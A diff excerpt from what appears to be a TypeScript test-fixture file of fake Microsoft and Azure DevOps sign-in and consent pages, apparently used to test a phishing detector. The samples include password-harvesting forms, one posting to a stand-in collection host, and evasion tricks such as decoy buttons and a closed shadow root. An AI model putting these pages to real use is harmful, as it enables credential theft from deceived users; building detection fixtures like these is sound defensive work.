     html: callbackPage('We could not sign you in', `AADSTS500011: The resource principal named ${ADO_RESOURCE} was not found in the tenant.`),
@@ -503,7 +674,10 @@ export const CLONE_PAGES: readonly ClonePage[] = [
   {
     name: 'a sign-in clone with a "Sign in with Microsoft" decoy button',
     url: 'https://docs-share.example/view/q3-report',
-    html: doc('Sign in to your account', `<img alt="Microsoft" src="${GIF}"><h1>Sign in</h1><form method="post" action="/view/q3-report"><input type="email" name="login"><input type="password" name="passwd"><button type="submit">Sign in</button></form>${MICROSOFT_BUTTON}`),
+    html: doc(
+      'Sign in to your account',
+      `<img alt="Microsoft" src="${GIF}"><h1>Sign in</h1><form method="post" action="/view/q3-report"><input type="email" name="login"><input type="password" name="passwd"><button type="submit">Sign in</button></form>${MICROSOFT_BUTTON}`,
+    ),
   },
   {
     name: "a clone without the word Microsoft: Microsoft's logo file, assets and field ids",
@@ -517,7 +691,10 @@ export const CLONE_PAGES: readonly ClonePage[] = [
   {
     name: 'a consent clone with the logo drawn as four squares and no alt text',
     url: 'https://app-consent.example/permissions',
-    html: doc('Permissions requested', `${FOUR_SQUARES}<div role="heading" aria-level="1">Permissions requested</div><p>Contoso Deploy Bot</p><p>This app would like to:</p><ul><li>Read and write your code</li></ul><form method="post" action="/permissions/accept"><input type="submit" value="Cancel"><input type="submit" value="Accept"></form>`),
+    html: doc(
+      'Permissions requested',
+      `${FOUR_SQUARES}<div role="heading" aria-level="1">Permissions requested</div><p>Contoso Deploy Bot</p><p>This app would like to:</p><ul><li>Read and write your code</li></ul><form method="post" action="/permissions/accept"><input type="submit" value="Cancel"><input type="submit" value="Accept"></form>`,
+    ),
   },
   {
     name: 'an Azure DevOps approval clone wrapped in <article> to look like content',
@@ -530,17 +707,26 @@ export const CLONE_PAGES: readonly ClonePage[] = [
   {
     name: 'a clone whose logo sits in a home link, next to a "Continue with Microsoft" decoy',
     url: 'https://mail-verify.example/login',
-    html: doc('Microsoft | Sign in', `<a href="/"><img alt="Microsoft" src="${GIF}"></a><h1>Enter password</h1><form method="post" action="https://collect.example/p"><input type="password" name="passwd"><button type="submit">Sign in</button></form><button type="button">${FOUR_SQUARES} Continue with Microsoft</button>`),
+    html: doc(
+      'Microsoft | Sign in',
+      `<a href="/"><img alt="Microsoft" src="${GIF}"></a><h1>Enter password</h1><form method="post" action="https://collect.example/p"><input type="password" name="passwd"><button type="submit">Sign in</button></form><button type="button">${FOUR_SQUARES} Continue with Microsoft</button>`,
+    ),
   },
   {
     name: 'a "Pick an account" clone with the logo as a background image',
     url: 'https://account-check.example/select',
-    html: doc('Sign in to your account', `<div class="logo" style="background-image:url('/img/microsoft_logo.svg')" role="img" aria-label=""></div><div role="heading" aria-level="1">Pick an account</div><form method="post" action="/select"><input type="email" name="username"><button type="submit">Next</button></form>`),
+    html: doc(
+      'Sign in to your account',
+      `<div class="logo" style="background-image:url('/img/microsoft_logo.svg')" role="img" aria-label=""></div><div role="heading" aria-level="1">Pick an account</div><form method="post" action="/select"><input type="email" name="username"><button type="submit">Next</button></form>`,
+    ),
   },
   {
     name: 'a sign-in clone rendered inside a closed shadow root',
     url: 'https://files-portal.example/shared/doc',
-    html: doc('Sign in to your account', `<div id="app"></div><script>document.getElementById('app').attachShadow({ mode: 'closed' }).innerHTML = ${JSON.stringify(CLOSED_SHADOW_CLONE_BODY)};</script>`),
+    html: doc(
+      'Sign in to your account',
+      `<div id="app"></div><script>document.getElementById('app').attachShadow({ mode: 'closed' }).innerHTML = ${JSON.stringify(CLOSED_SHADOW_CLONE_BODY)};</script>`,
+    ),
   },
 ];
 
